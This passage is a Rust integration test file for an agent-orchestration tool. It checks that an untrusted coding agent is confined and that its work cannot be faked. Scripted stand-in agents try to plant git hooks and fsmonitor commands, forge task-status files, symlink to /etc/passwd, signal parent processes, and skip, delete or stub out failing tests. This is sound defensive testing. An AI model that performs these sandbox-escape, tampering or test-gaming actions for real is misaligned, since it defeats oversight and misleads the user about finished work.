//! The agent is untrusted: in the default mode it cannot write the user's
//! checkout, the session's task files or the repository's configuration
//! and hooks (Landlock), and what it commits on its own never carries
//! wavecrew's session folder onto the integration branch.

use std::path::{Path, PathBuf};

use wavecrew_core::{TaskId, TaskStore};
use wavecrew_testkit::git::{TempProject, git};
use wavecrew_testkit::run_bin;

/// IMPL-001's agent tries to write where it must not (the user's
/// checkout by absolute path, IMPL-002's task file, the repository's
/// `config` and a hook), printing what the kernel answered, then does its
/// work and commits it itself with `git add -A`. IMPL-002's agent writes
/// its own file.
const AGENT: &str = "import os, pathlib, subprocess, sys\n\
task = sys.argv[1]\n\
project, session = sys.argv[2], sys.argv[3]\n\
common = subprocess.run(['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'], \
capture_output=True, text=True).stdout.strip()\n\
if task == 'IMPL-001':\n\
\x20   for target, text in [\n\
\x20       (os.path.join(project, 'PWNED.txt'), 'x'),\n\
\x20       (os.path.join(session, 'tasks', 'IMPL-002.json'), '{\"status\": \"completed\"}'),\n\
\x20       (os.path.join(common, 'config'), '[core]\\n\\tfsmonitor = touch /tmp/planted\\n'),\n\
\x20       (os.path.join(common, 'hooks', 'post-merge'), '#!/bin/sh\\ntouch planted\\n'),\n\
\x20   ]:\n\
\x20       try:\n\
\x20           with open(target, 'a') as f:\n\
\x20               f.write(text)\n\
\x20           print('WROTE ' + target)\n\
\x20       except OSError as e:\n\
\x20           print('DENIED ' + target + ': ' + e.strerror)\n\
\x20   pathlib.Path(session, 'artifacts').mkdir(exist_ok=True)\n\
\x20   pathlib.Path(session, 'artifacts', 'notes.md').write_text('deliverable\\n')\n\
\x20   pathlib.Path('one.txt').write_text('one\\n')\n\
\x20   subprocess.run(['git', 'add', '-A'], check=True)\n\
\x20   subprocess.run(['git', '-c', 'user.name=agent', '-c', 'user.email=agent@x', 'commit', '-qm', 'agent commit'], check=True)\n\
else:\n\
\x20   pathlib.Path('two.txt').write_text('two\\n')\n\
print(task + ' done')\n";

fn stdout_of(session: &Path, task: &str) -> String {
    let mut text = String::new();
    let dir = session.join("attempts").join(task);
    for entry in std::fs::read_dir(&dir).unwrap().flatten() {
        if let Ok(t) = std::fs::read_to_string(entry.path().join("stdout.log")) {
            text.push_str(&t);
        }
    }
    text
}

/// The folder of the test project `app` in `tmp`.
fn app_root(tmp: &TempProject) -> PathBuf {
    tmp.path().canonicalize().unwrap().join("app")
}

/// Write `files` into the project at `root`, with a `wavecrew.toml` whose
/// agent is `python3 <root>/agent.py <args…>` (argv; `{task_id}` is a
/// placeholder) and `extra` after it, then commit them all on `main`.
pub(crate) fn commit_project(root: &Path, files: &[(&str, &str)], args: &[&str], extra: &str) {
    std::fs::create_dir_all(root).unwrap();
    for (rel, text) in files {
        std::fs::write(root.join(rel), text).unwrap();
    }
    let command: Vec<String> = std::iter::once("python3".to_owned())
        .chain(std::iter::once(root.join("agent.py").display().to_string()))
        .chain(args.iter().map(|a| (*a).to_owned()))
        .collect();
    std::fs::write(
        root.join("wavecrew.toml"),
        format!(
            "[aliases]\nagent = \"py\"\ncodex = \"py\"\n\n[backends.py]\nkind = \"command\"\n\
             argv = {command:?}\nprompt = \"stdin\"\nstream = \"none\"\n\n\
             [routing]\nmax_retries = 0\nfallback = []\n{extra}"
        ),
    )
    .unwrap();
    git(root, &["init", "-q", "-b", "main"]);
    git(root, &["add", "."]);
    git(root, &["commit", "-qm", "start"]);
}

#[test]
fn a_confined_agent_cannot_reach_the_checkout_the_session_or_git_config() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let session = root.join(".workflow/.team/TC-untrusted");
    let (project, session_arg) = (root.display().to_string(), session.display().to_string());
    commit_project(
        &root,
        &[
            // No `.workflow/` in .gitignore: the agent's `git add -A` sees
            // the session link in its worktree.
            (
                ".gitignore",
                "agent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("README.md", "app\n"),
            ("agent.py", AGENT),
            (
                "wavecrew.tasks.toml",
                "goal = \"Two files\"\nsession = \"TC-untrusted\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"One\"\nfiles = [\"one.txt\"]\n\n\
                 [[tasks]]\nid = \"IMPL-002\"\ntitle = \"Two\"\nfiles = [\"two.txt\"]\n\
                 depends_on = [\"IMPL-001\"]\n",
            ),
        ],
        &["{task_id}", &project, &session_arg],
        "",
    );
    let config_before = std::fs::read_to_string(root.join(".git/config")).unwrap();

    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    assert_eq!(o.code, 0, "{}", o.render());
    let said = stdout_of(&session, "IMPL-001");
    for target in [
        root.join("PWNED.txt"),
        session.join("tasks/IMPL-002.json"),
        root.join(".git/config"),
        root.join(".git/hooks/post-merge"),
    ] {
        assert!(
            said.contains(&format!("DENIED {}", target.display())),
            "{}: {said}",
            target.display()
        );
    }
    assert!(!root.join("PWNED.txt").exists());
    assert!(!root.join(".git/hooks/post-merge").exists());
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config")).unwrap(),
        config_before
    );
    // Its deliverable and its own commit are there; IMPL-002 really ran.
    assert_eq!(
        std::fs::read_to_string(session.join("artifacts/notes.md")).unwrap(),
        "deliverable\n"
    );
    let store = wavecrew_core::FileTaskStore::for_session(&session);
    for id in ["IMPL-001", "IMPL-002"] {
        let t = store.get(&TaskId::new(id).unwrap()).unwrap();
        assert_eq!(t.status.as_str(), "completed", "{id}");
    }
    assert!(stdout_of(&session, "IMPL-002").contains("IMPL-002 done"));
    // Nothing of wavecrew's landed, though the agent committed with
    // `git add -A`; --apply takes the work.
    let files = git(
        &root,
        &["ls-tree", "-r", "--name-only", "wavecrew/TC-untrusted"],
    );
    assert_eq!(
        files.lines().collect::<Vec<_>>(),
        [".gitignore", "README.md", "one.txt", "two.txt"],
        "{files}"
    );
    let o = run_bin(
        "wavecrew",
        &["run", "wavecrew.tasks.toml", "--apply"],
        &root,
    );
    assert_eq!(o.code, 0, "{}", o.render());
    assert_eq!(
        std::fs::read_to_string(root.join("two.txt")).unwrap(),
        "two\n"
    );
}

/// Unconfined (`sandbox = "off"`, as on a kernel without Landlock), an
/// agent plants a hook, sets the fsmonitor and a filter driver in the
/// repository's configuration: wavecrew's git runs none of them (a marker
/// file proves it), everything is put back after the attempt, and the
/// task fails naming what it found.
#[test]
fn planted_git_configuration_and_hooks_are_put_back_and_fail_the_task() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let marker = tmp.path().canonicalize().unwrap().join("ran");
    let agent = format!(
        "import os, pathlib, subprocess\n\
             common = subprocess.run(['git', 'rev-parse', '--path-format=absolute', \
             '--git-common-dir'], capture_output=True, text=True).stdout.strip()\n\
             touch = 'touch {marker}'\n\
             for key, value in [('core.fsmonitor', touch), ('filter.planted.clean', touch), \
             ('core.hooksPath', os.path.join(common, 'hooks'))]:\n\
             \x20   subprocess.run(['git', 'config', key, value], check=True)\n\
             for hook in ['post-merge', 'reference-transaction', 'post-index-change']:\n\
             \x20   p = pathlib.Path(common, 'hooks', hook)\n\
             \x20   p.write_text('#!/bin/sh\\n' + touch + '\\n')\n\
             \x20   p.chmod(0o755)\n\
             pathlib.Path('one.txt').write_text('one\\n')\n",
        marker = marker.display()
    );
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            (".gitattributes", "*.txt filter=planted\n"),
            ("agent.py", &agent),
            (
                "wavecrew.tasks.toml",
                "goal = \"One file\"\nsession = \"TC-planted\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"One\"\nfiles = [\"one.txt\"]\n",
            ),
        ],
        &[],
        "\n[isolation]\nsandbox = \"off\"\n",
    );
    let config_before = std::fs::read_to_string(root.join(".git/config")).unwrap();

    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    assert_eq!(o.code, 1, "{}", o.render());
    let all = format!("{}{}", o.stdout, o.stderr);
    assert!(all.contains("the agent changed what git runs"), "{all}");
    for named in [
        "`.git/config` was changed",
        "fsmonitor = touch",
        "`.git/hooks/post-merge` was added",
    ] {
        assert!(all.contains(named), "{named}: {all}");
    }
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config")).unwrap(),
        config_before
    );
    assert!(!root.join(".git/hooks/post-merge").exists());
    // The user's own git after the run runs nothing planted either.
    git(&root, &["status"]);
    assert!(!marker.exists(), "planted code ran");
}

/// Evidence an agent cannot game by doing less: a task that declares
/// `files` and changes none of them fails (one that says
/// `may_change_nothing` passes), edits outside the declared files are
/// listed in the result, and a link out of the repository never lands.
#[test]
fn the_lane_of_a_task_no_change_undeclared_edits_and_links_out() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    std::fs::create_dir_all(&root).unwrap();
    let write = |rel: &str, text: &str| std::fs::write(root.join(rel), text).unwrap();
    write(
        ".gitignore",
        ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
    );
    write("README.md", "app\n");
    write(
        "agent.py",
        "import os, pathlib, sys\n\
         task = sys.argv[1]\n\
         if task == 'IMPL-002':\n\
         \x20   pathlib.Path('b.txt').write_text('b\\n')\n\
         \x20   pathlib.Path('extra.txt').write_text('not declared\\n')\n\
         elif task == 'IMPL-003':\n\
         \x20   os.symlink('/etc/passwd', 'link.txt')\n\
         print(task + ' done')\n",
    );
    write(
        "wavecrew.tasks.toml",
        "goal = \"Lanes\"\nsession = \"TC-lane\"\n\n\
         [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Does nothing\"\nfiles = [\"a.txt\"]\n\n\
         [[tasks]]\nid = \"IMPL-002\"\ntitle = \"Writes b\"\nfiles = [\"b.txt\"]\n\n\
         [[tasks]]\nid = \"IMPL-003\"\ntitle = \"Links\"\nfiles = [\"link.txt\"]\n\n\
         [[tasks]]\nid = \"IMPL-004\"\ntitle = \"Checks, may find nothing\"\n\
         files = [\"a.txt\"]\nmay_change_nothing = true\n",
    );
    commit_project(&root, &[], &["{task_id}"], "");

    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    assert_eq!(o.code, 1, "{}", o.render());
    let session = root.join(".workflow/.team/TC-lane");
    let store = wavecrew_core::FileTaskStore::for_session(&session);
    let task = |id: &str| store.get(&TaskId::new(id).unwrap()).unwrap();
    let error = |id: &str| {
        task(id).result.unwrap()["error"]
            .as_str()
            .unwrap_or("")
            .to_owned()
    };
    assert_eq!(task("IMPL-001").status.as_str(), "failed");
    assert!(
        error("IMPL-001").starts_with("no change to the declared files (a.txt)"),
        "{}",
        error("IMPL-001")
    );
    assert_eq!(task("IMPL-002").status.as_str(), "completed");
    assert_eq!(
        task("IMPL-002").result.unwrap()["undeclared_files"],
        serde_json::json!(["extra.txt"])
    );
    assert_eq!(task("IMPL-003").status.as_str(), "failed");
    assert_eq!(
        error("IMPL-003"),
        "links out of the repository are refused: link.txt -> /etc/passwd"
    );
    assert_eq!(task("IMPL-004").status.as_str(), "completed");
    let landed = git(&root, &["ls-tree", "-r", "--name-only", "wavecrew/TC-lane"]);
    assert!(!landed.contains("link.txt"), "{landed}");
}

/// A run killed after a task's work landed but before it was recorded:
/// the next run completes the task from its landing (the trailer on the
/// integration branch) and never runs its agent again.
#[test]
fn a_task_whose_work_landed_completes_from_the_landing_on_resume() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let session = root.join(".workflow/.team/TC-resume");
    std::fs::create_dir_all(&root).unwrap();
    let write = |rel: &str, text: &str| std::fs::write(root.join(rel), text).unwrap();
    write(
        ".gitignore",
        ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
    );
    write("README.md", "app\n");
    write(
        "agent.py",
        &format!(
            "import pathlib, sys\ntask = sys.argv[1]\n\
             with open({:?}, 'a') as f:\n\x20   f.write(task + '\\n')\n\
             pathlib.Path(task + '.txt').write_text(task + '\\n')\n",
            session.join("artifacts/runs.txt").display().to_string()
        ),
    );
    write(
        "wavecrew.tasks.toml",
        "goal = \"Two files\"\nsession = \"TC-resume\"\n\n\
         [[tasks]]\nid = \"IMPL-001\"\ntitle = \"One\"\nfiles = [\"IMPL-001.txt\"]\n\n\
         [[tasks]]\nid = \"IMPL-002\"\ntitle = \"Two\"\nfiles = [\"IMPL-002.txt\"]\n\
         depends_on = [\"IMPL-001\"]\n",
    );
    commit_project(&root, &[], &["{task_id}"], "");
    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    assert_eq!(o.code, 0, "{}", o.render());
    let tip = git(&root, &["rev-parse", "wavecrew/TC-resume"]);

    // As if the run had been killed between IMPL-002's landing and its
    // record: its task file back to pending, its completion off the bus.
    let file = session.join("tasks/IMPL-002.json");
    let mut t: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    t["status"] = "pending".into();
    t.as_object_mut().unwrap().remove("result");
    std::fs::write(&file, t.to_string()).unwrap();
    let bus = session.join(".msg/messages.jsonl");
    let kept: String = std::fs::read_to_string(&bus)
        .unwrap()
        .lines()
        .filter(|l| !(l.contains("\"task_complete\"") && l.contains("IMPL-002")))
        .flat_map(|l| [l, "\n"])
        .collect();
    std::fs::write(&bus, kept).unwrap();

    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    assert_eq!(o.code, 0, "{}", o.render());
    let store = wavecrew_core::FileTaskStore::for_session(&session);
    let t = store.get(&TaskId::new("IMPL-002").unwrap()).unwrap();
    assert_eq!(t.status.as_str(), "completed");
    let r = t.result.unwrap();
    assert_eq!(r["completed_from"], "landing", "{r:#}");
    assert_eq!(
        r["files_modified"],
        serde_json::json!(["IMPL-002.txt"]),
        "{r:#}"
    );
    assert_eq!(
        std::fs::read_to_string(session.join("artifacts/runs.txt")).unwrap(),
        "IMPL-001\nIMPL-002\n",
        "no agent ran again"
    );
    assert_eq!(
        git(&root, &["rev-parse", "wavecrew/TC-resume"]),
        tip,
        "nothing landed twice"
    );
}

/// A project whose IMPL-001 agent (unconfined) marks IMPL-002's task file
/// completed and deletes IMPL-003's; `extra` goes into `wavecrew.toml`.
fn forging_project(tmp: &TempProject, extra: &str) -> (PathBuf, PathBuf) {
    let root = app_root(tmp);
    let session = root.join(".workflow/.team/TC-forged");
    let agent = format!(
        "import json, os, pathlib, sys\ntask = sys.argv[1]\n\
         tasks = pathlib.Path({tasks:?})\n\
         if task == 'IMPL-001':\n\
         \x20   t = json.loads((tasks / 'IMPL-002.json').read_text())\n\
         \x20   t['status'] = 'completed'\n\
         \x20   t['result'] = {{'status': 'completed', 'files_modified': ['IMPL-002.txt']}}\n\
         \x20   (tasks / 'IMPL-002.json').write_text(json.dumps(t))\n\
         \x20   (tasks / 'IMPL-003.json').unlink()\n\
         pathlib.Path(task + '.txt').write_text(task + '\\n')\n\
         print(task + ' done')\n",
        tasks = session.join("tasks").display().to_string()
    );
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("README.md", "app\n"),
            ("agent.py", &agent),
            (
                "wavecrew.tasks.toml",
                "goal = \"Three files\"\nsession = \"TC-forged\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"One\"\nfiles = [\"IMPL-001.txt\"]\n\n\
                 [[tasks]]\nid = \"IMPL-002\"\ntitle = \"Two\"\nfiles = [\"IMPL-002.txt\"]\n\
                 depends_on = [\"IMPL-001\"]\n\n\
                 [[tasks]]\nid = \"IMPL-003\"\ntitle = \"Three\"\nfiles = [\"IMPL-003.txt\"]\n\
                 depends_on = [\"IMPL-001\"]\n",
            ),
        ],
        &["{task_id}"],
        &format!("\n[isolation]\nsandbox = \"off\"\n{extra}"),
    );
    (root, session)
}

/// Unconfined (`sandbox = "off"`), IMPL-001's agent marks IMPL-002's task
/// file completed (a copy of it with the status changed) and deletes
/// IMPL-003's. wavecrew believes neither: the forged file is reported as
/// tampered, by path, and IMPL-002 runs; the deleted one is made again
/// from the session's analysis and IMPL-003 runs. Every task ran, and
/// the run says what it found.
#[test]
fn a_forged_or_deleted_task_file_is_reported_and_the_tasks_run() {
    let tmp = TempProject::new();
    let (root, session) = forging_project(&tmp, "");

    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    let all = format!("{}{}", o.stdout, o.stderr);
    eprintln!("{all}");
    assert!(all.contains("tampered"), "{all}");
    assert!(
        all.contains(&session.join("tasks/IMPL-002.json").display().to_string()),
        "{all}"
    );
    for id in ["IMPL-002", "IMPL-003"] {
        assert!(
            stdout_of(&session, id).contains(&format!("{id} done")),
            "{id} ran: {all}"
        );
    }
    let files = git(
        &root,
        &["ls-tree", "-r", "--name-only", "wavecrew/TC-forged"],
    );
    for f in ["IMPL-001.txt", "IMPL-002.txt", "IMPL-003.txt"] {
        assert!(files.contains(f), "{f}: {files}");
    }
    assert_eq!(o.code, 0, "{all}");
}

/// `[isolation] trust_task_files = true` keeps the seed's behaviour: the
/// forged `completed` is believed, IMPL-002 never runs, nothing is
/// reported as tampered.
#[test]
fn trusted_task_files_keep_the_seeds_behaviour() {
    let tmp = TempProject::new();
    let (root, session) = forging_project(&tmp, "trust_task_files = true\n");
    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    let all = format!("{}{}", o.stdout, o.stderr);
    assert!(!all.contains("tampered"), "{all}");
    assert!(
        !session.join("attempts/IMPL-002").exists(),
        "IMPL-002 never ran: {all}"
    );
}

/// `wavecrew run <args>` in `root` with `tools` first on `PATH`.
fn run_with_tools(root: &Path, tools: &Path, args: &[&str]) -> (i32, String) {
    let path = format!(
        "{}:{}",
        tools.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let out = std::process::Command::new(wavecrew_testkit::bin_path("wavecrew"))
        .args(args)
        .current_dir(root)
        .env("PATH", path)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

/// `wavecrew <args>` in `root` as a user whose home is `home` (`env`
/// besides; the CLIs' own folder variables of this environment removed, so
/// they are found under that home), stdin closed: its exit code and
/// output.
fn run_as_user_of(
    home: &Path,
    root: &Path,
    args: &[&str],
    env: &[(&str, &str)],
) -> (Option<i32>, String) {
    let out = std::process::Command::new(wavecrew_testkit::bin_path("wavecrew"))
        .args(args)
        .current_dir(root)
        .env("HOME", home)
        .env_remove("CLAUDE_CONFIG_DIR")
        .env_remove("CODEX_HOME")
        .env_remove("GEMINI_CLI_HOME")
        .envs(env.iter().copied())
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code(), all)
}

/// The status and error of `id` in the session at `session`.
fn outcome_of(session: &Path, id: &str) -> (String, String) {
    let store = wavecrew_core::FileTaskStore::for_session(session);
    let t = store.get(&TaskId::new(id).unwrap()).unwrap();
    let error = t
        .result
        .as_ref()
        .and_then(|r| r["error"].as_str())
        .unwrap_or_default()
        .to_owned();
    (t.status.as_str().to_owned(), error)
}

/// Green without the work, in pytest: with a failing `test_add`, agents
/// that touch `calc.py` but mark the test skipped, delete it, or replace
/// the file with a test that asserts `True` make `pytest` pass; each task
/// fails, naming the test, by pytest's own reports of the task's tree and
/// of its base. An agent that fixes the bug and adds a test completes.
#[test]
fn pytest_tests_skipped_deleted_or_replaced_fail_the_task_by_name() {
    let py = wavecrew_testkit::agent_cli_bins::cache_dir().join("py/bin");
    assert!(
        py.join("pytest").exists(),
        "pytest is not installed in {}: run scripts/test.sh (never skipped)",
        py.display()
    );
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let session = root.join(".workflow/.team/TC-gamed");
    let agent = "import pathlib, sys\ntask = sys.argv[1]\n\
calc = pathlib.Path('calc.py')\n\
tests = pathlib.Path('test_calc.py')\n\
if task == 'IMPL-005':\n\
\x20   calc.write_text(calc.read_text().replace('a - b', 'a + b'))\n\
\x20   tests.write_text(tests.read_text().replace('def test_sub_is_not_here():\\n    assert True\\n', ''))\n\
elif task == 'IMPL-004':\n\
\x20   calc.write_text(calc.read_text().replace('a - b', 'a + b'))\n\
\x20   tests.write_text(tests.read_text() + '\\ndef test_add_zero():\\n    assert add(0, 0) == 0\\n')\n\
else:\n\
\x20   calc.write_text(calc.read_text() + '# looked at it\\n')\n\
if task == 'IMPL-001':\n\
\x20   tests.write_text('import pytest\\n' + tests.read_text().replace('def test_add', '@pytest.mark.skip\\ndef test_add'))\n\
if task == 'IMPL-002':\n\
\x20   tests.write_text(tests.read_text().split('def test_add')[0])\n\
if task == 'IMPL-003':\n\
\x20   tests.write_text('def test_true():\\n    assert True\\n')\n\
print(task + ' done')\n";
    let task = |id: &str| {
        format!(
            "[[tasks]]\nid = \"{id}\"\ntitle = \"Fix add\"\nfiles = [\"calc.py\", \"test_calc.py\"]\n{}\
             acceptance = [\n  {{ criterion = \"pytest passes\", verify = [\"python3\", \"-m\", \
             \"pytest\", \"-q\", \"-p\", \"no:cacheprovider\"] }},\n]\n\n",
            if id == "IMPL-005" {
                "may_remove_tests = true\n"
            } else {
                ""
            }
        )
    };
    let tasks = format!(
        "goal = \"Fix add\"\nsession = \"TC-gamed\"\n\n{}{}{}{}{}",
        task("IMPL-001"),
        task("IMPL-002"),
        task("IMPL-003"),
        task("IMPL-004"),
        task("IMPL-005")
    );
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n__pycache__/\n",
            ),
            ("calc.py", "def add(a, b):\n    return a - b\n"),
            (
                "test_calc.py",
                "from calc import add\n\n\ndef test_sub_is_not_here():\n    assert True\n\n\n\
                 def test_add():\n    assert add(2, 3) == 5\n",
            ),
            ("agent.py", agent),
            ("wavecrew.tasks.toml", &tasks),
        ],
        &["{task_id}"],
        "",
    );

    let (code, all) = run_with_tools(&root, &py, &["run", "wavecrew.tasks.toml"]);
    assert_eq!(code, 1, "{all}");
    let expect = [
        ("IMPL-001", "skipped now: `test_calc::test_add`"),
        ("IMPL-002", "gone: `test_calc::test_add`"),
        (
            "IMPL-003",
            "gone: `test_calc::test_add`, `test_calc::test_sub_is_not_here`",
        ),
    ];
    for (id, named) in expect {
        let (status, error) = outcome_of(&session, id);
        assert_eq!(status, "failed", "{id}: {error}\n{all}");
        assert!(error.contains(named), "{id}: {error}");
    }
    let (status, error) = outcome_of(&session, "IMPL-004");
    assert_eq!(status, "completed", "{error}\n{all}");
    // A task that says it may remove tests completes; the removal is in
    // its evidence.
    let (status, error) = outcome_of(&session, "IMPL-005");
    assert_eq!(status, "completed", "{error}\n{all}");
    let store = wavecrew_core::FileTaskStore::for_session(&session);
    let r = store
        .get(&TaskId::new("IMPL-005").unwrap())
        .unwrap()
        .result
        .unwrap();
    assert_eq!(
        r["evidence"]["base_tests"]["drift"]["gone"],
        serde_json::json!(["test_calc::test_sub_is_not_here"]),
        "{r:#}"
    );
    // Nothing gamed landed; the base's worktrees are gone.
    let landed = git(&root, &["show", "wavecrew/TC-gamed:test_calc.py"]);
    assert!(
        landed.contains("def test_add():") && !landed.contains("skip"),
        "{landed}"
    );
    assert!(
        !git(&root, &["worktree", "list"]).contains("base-"),
        "the base's worktrees are removed"
    );
}

/// Green without the work, in jest: with a failing test, an agent that
/// marks it `test.skip`, or replaces the file with a test that passes,
/// fails its task, naming the test by jest's own reports; an agent that
/// fixes the code completes.
#[test]
fn jest_tests_skipped_or_replaced_fail_the_task_by_name() {
    let cache = wavecrew_testkit::agent_cli_bins::cache_dir().join("node");
    assert!(
        cache.join("node_modules/.bin/jest").exists(),
        "jest is not installed in {}: run scripts/test.sh (never skipped)",
        cache.display()
    );
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../crates/validation/tests/fixtures/node-tools");
    let mut package: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(fixture.join("package.json")).unwrap())
            .unwrap();
    package["scripts"] = serde_json::json!({"test": "jest"});
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let session = root.join(".workflow/.team/TC-gamed-js");
    let agent = "import pathlib, sys\ntask = sys.argv[1]\n\
mul = pathlib.Path('mul.js')\n\
tests = pathlib.Path('mul.test.js')\n\
if task == 'IMPL-003':\n\
\x20   mul.write_text('module.exports = (a, b) => a * b;\\n')\n\
else:\n\
\x20   mul.write_text(mul.read_text() + '// looked at it\\n')\n\
if task == 'IMPL-001':\n\
\x20   tests.write_text(tests.read_text().replace(\"test('multiplies'\", \"test.skip('multiplies'\"))\n\
if task == 'IMPL-002':\n\
\x20   tests.write_text(\"test('works', () => { expect(true).toBe(true); });\\n\")\n\
print(task + ' done')\n";
    let task = |id: &str| {
        format!(
            "[[tasks]]\nid = \"{id}\"\ntitle = \"Fix mul\"\nfiles = [\"mul.js\", \"mul.test.js\"]\n\
             acceptance = [\n  {{ criterion = \"jest passes\", verify = [\"node_modules/.bin/jest\", \
             \"--ci\", \"--watchman=false\"] }},\n]\n\n"
        )
    };
    let tasks = format!(
        "goal = \"Fix mul\"\nsession = \"TC-gamed-js\"\n\n{}{}{}",
        task("IMPL-001"),
        task("IMPL-002"),
        task("IMPL-003")
    );
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nnode_modules/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("package.json", &package.to_string()),
            (
                "package-lock.json",
                &std::fs::read_to_string(fixture.join("package-lock.json")).unwrap(),
            ),
            ("mul.js", "module.exports = (a, b) => a + b;\n"),
            (
                "mul.test.js",
                "const mul = require('./mul');\n\
                 test('multiplies', () => { expect(mul(2, 3)).toBe(6); });\n\
                 test('multiplies zero', () => { expect(mul(0, 0)).toBe(0); });\n",
            ),
            ("agent.py", agent),
            ("wavecrew.tasks.toml", &tasks),
        ],
        &["{task_id}"],
        "",
    );
    let copied = std::process::Command::new("cp")
        .arg("-a")
        .arg(cache.join("node_modules"))
        .arg(&root)
        .status()
        .unwrap();
    assert!(copied.success());

    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    assert_eq!(o.code, 1, "{}", o.render());
    let (status, error) = outcome_of(&session, "IMPL-001");
    assert_eq!(status, "failed", "{error}\n{}", o.render());
    assert!(
        error.contains("skipped now") && error.contains("multiplies`"),
        "{error}"
    );
    let (status, error) = outcome_of(&session, "IMPL-002");
    assert_eq!(status, "failed", "{error}\n{}", o.render());
    assert!(
        error.contains("gone")
            && error.contains("multiplies`")
            && error.contains("multiplies zero"),
        "{error}"
    );
    let (status, error) = outcome_of(&session, "IMPL-003");
    assert_eq!(status, "completed", "{error}\n{}", o.render());
}

/// An agent that walks up `/proc` from its own process and signals every
/// ancestor (its worker, `wavecrew run`) with SIGSTOP and SIGKILL, and
/// another process of the user, is refused by the kernel each time: the
/// run completes, the other process lives, and the agent's own work lands.
#[test]
fn a_confined_agent_cannot_signal_wavecrew_or_another_process_of_the_user() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let mut victim = std::process::Command::new("sleep")
        .arg("120")
        .spawn()
        .unwrap();
    let agent = format!(
        "import os, pathlib, signal\n\
         def ancestors():\n\
         \x20   pid = os.getpid()\n\
         \x20   while pid > 1:\n\
         \x20       stat = pathlib.Path('/proc/%d/stat' % pid).read_text()\n\
         \x20       pid = int(stat.rsplit(')', 1)[1].split()[1])\n\
         \x20       yield pid\n\
         \x20       if pathlib.Path('/proc/%d/comm' % pid).read_text().strip() == 'wavecrew':\n\
         \x20           return\n\
         for pid in list(ancestors()) + [{victim}]:\n\
         \x20   for sig in (signal.SIGSTOP, signal.SIGKILL):\n\
         \x20       try:\n\
         \x20           os.kill(pid, sig)\n\
         \x20           print('SENT %s to %d' % (sig.name, pid))\n\
         \x20       except OSError as e:\n\
         \x20           print('DENIED %s to %d: %s' % (sig.name, pid, e.strerror))\n\
         pathlib.Path('done.txt').write_text('done\\n')\n",
        victim = victim.id()
    );
    commit_project(
        &root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("README.md", "app\n"),
            ("agent.py", &agent),
            (
                "wavecrew.tasks.toml",
                "goal = \"Signals\"\nsession = \"TC-signals\"\n\n\
                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Write done.txt\"\n",
            ),
        ],
        &[],
        "",
    );
    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    let alive = victim.try_wait().unwrap().is_none();
    let _ = victim.kill();
    let _ = victim.wait();
    assert_eq!(o.code, 0, "{}", o.render());
    assert!(alive, "the agent killed another process of the user");
    let said = stdout_of(&root.join(".workflow/.team/TC-signals"), "IMPL-001");
    assert!(!said.contains("SENT"), "{said}");
    assert!(
        said.matches("DENIED").count() >= 6,
        "its worker, wavecrew run and the other process, two signals each: {said}"
    );
    assert_eq!(
        git(&root, &["show", "wavecrew/TC-signals:done.txt"]),
        "done"
    );
}

/// An agent that copies the repository's git folder, gives the copy a
/// filter and a diff driver of its own (and an `include.path`), marks
/// every file with them in `.gitattributes`, then points its worktree's
/// `.git` file (IMPL-001) or its git folder's `commondir` (IMPL-002) at
/// the copy: wavecrew's git never follows the redirect (the drivers never
/// run, not even once), puts the files back, and fails the attempt naming
/// them; the other tasks' work lands. (The copy skips what the merge
/// queue, landing a neighbour at the same time, creates and removes as it
/// copies: ref locks; a file gone before it is copied is left out.)
#[test]
fn wavecrew_git_never_follows_a_redirect_the_agent_wrote() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
